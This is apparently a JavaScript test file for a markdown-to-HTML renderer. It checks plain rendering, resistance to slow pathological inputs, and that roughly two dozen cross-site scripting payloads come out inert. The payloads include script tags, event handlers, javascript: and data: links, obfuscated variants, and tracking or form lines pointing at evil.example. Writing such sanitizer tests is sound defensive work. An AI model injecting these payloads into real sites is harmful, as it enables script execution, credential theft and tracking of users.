import { renderMarkdown } from './markdown.js';

describe('renderMarkdown', () => {
  it.each([
    ['Bring **cake** and _tea_.', '<p>Bring <strong>cake</strong> and <em>tea</em>.</p>'],
    ['one\ntwo', '<p>one<br />two</p>'],
    ['# Fair', '<h2>Fair</h2>'],
    ['* cake\n* tea', '<ul>\n<li>cake</li>\n<li>tea</li>\n</ul>'],
    [
      '[map](https://example.org/a?b=1&c=2 "where")',
      '<p><a href="https://example.org/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">map</a></p>',
    ],
    [
      'ana@example.org',
      '<p><a href="mailto:ana@example.org" rel="noopener noreferrer nofollow">ana@example.org</a></p>',
    ],
    ['a < b & c', '<p>a &lt; b &amp; c</p>'],
    ['', ''],
  ])('renders %j', (markdown, html) => {
    expect(renderMarkdown(markdown)).toBe(html);
  });

  it.each([
    ['a script', '<script>alert(1)</script>'],
    ['a script in another case, with a source', '<ScRiPt src=//evil.example/x.js></sCrIpT>'],
    ['a script in pieces', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
    ['an image with a handler', '<img src=x onerror=alert(1)>'],
    ['an image that tells who looked', '![x](https://evil.example/pixel.gif)'],
    ['an SVG that loads', '<svg/onload=alert(1)><animate onbegin=alert(1)></svg>'],
    ['MathML around a link', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
    ['a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['an object and its like', '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">'],
    ['a form', '<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)></form>'],
    [
      'a style that loads',
      '<style>@import "https://evil.example/x.css"; p { background: url(javascript:alert(1)) }</style>',
    ],
    ['a style attribute', '<p style="background:url(javascript:alert(1))" onclick="alert(1)" class="x" id="y">x</p>'],
    [
      'a base and a refresh',
      '<base href="//evil.example"><meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    ],
    ['a link with a handler', '<a href="https://example.org" onmouseover="alert(1)" target="_blank">x</a>'],
    ['a javascript link', '[x](javascript:alert(1))'],
    ['a javascript link in entities', '[x](&#106;avascript&colon;alert(1))'],
    ['a javascript link with controls and capitals', '<a href=" \u0001JaVa\tScRiPt:alert(1)">x</a>'],
    ['a vbscript link', '[x](vbscript:msgbox(1))'],
    ['a data link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
    ['a javascript autolink', '<javascript:alert(1)>'],
    ['a link without a protocol', '[x](//evil.example/x)'],
    ['a handler out of a title', '[x](https://example.org \'"onmouseover="alert(1)\')'],
    ['a comment that ends early', '<!--><img src=x onerror=alert(1)>-->'],
    ['a text area that hides', '<textarea></p><script>alert(1)</script></textarea>'],
    ['a noscript that hides', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ])('makes %s inert', (_, markdown) => {
    const html = renderMarkdown(markdown);
    const tags = html.match(/<[^>]*>/g) ?? [];
    const harmless =
      /^<\/?(p|br|strong|em|del|ul|ol|li|h[2-4]|blockquote|code|pre|hr|a)( \/)?>$|^<a( href="(https?:\/\/|mailto:|tel:)[^"<>]*")? rel="noopener noreferrer nofollow">$/;
    expect(tags.filter((tag) => !harmless.test(tag))).toEqual([]);
    expect(html.replaceAll(/<[^>]*>/g, '')).not.toMatch(/[<>]/);
  });

  it('leaves a template as the text that it is', () => {
    expect(renderMarkdown('{{constructor.constructor("alert(1)")()}} ${alert(1)}')).toBe(
      '<p>{{constructor.constructor("alert(1)")()}} ${alert(1)}</p>',
    );
  });

  it.each(['*a_', '**a_', '*a_\n', '_a*b', '[*a_', '~a*', '> ', '>', '1. ', '- ', '[', '![x](', '`', '<a ', '(', 'a@'])(
    'takes a description full of %j in no time',
    (piece) => {
      const markdown = piece.repeat(Math.floor(20_000 / piece.length));
      const start = process.cpuUsage();
      renderMarkdown(markdown);
      const { user, system } = process.cpuUsage(start);
      expect((user + system) / 1_000).toBeLessThan(1_000);
    },
  );

  it('shows as typed what would take too long, with its lines', () => {
    expect(renderMarkdown(`${'> '.repeat(40)}<b>a & b</b>\nc`)).toBe(
      `<p>${'&gt; '.repeat(40)}&lt;b&gt;a &amp; b&lt;/b&gt;<br />c</p>`,
    );
  });

  it('still renders a long list and many paragraphs', () => {
    const list = '* one of many\n'.repeat(1_000);
    expect(renderMarkdown(list).match(/<li>/g)).toHaveLength(1_000);
    const paragraphs = Array.from({ length: 1_000 }, () => '**bold**').join('\n\n');
    expect(renderMarkdown(paragraphs).match(/<strong>/g)).toHaveLength(1_000);
  });
});
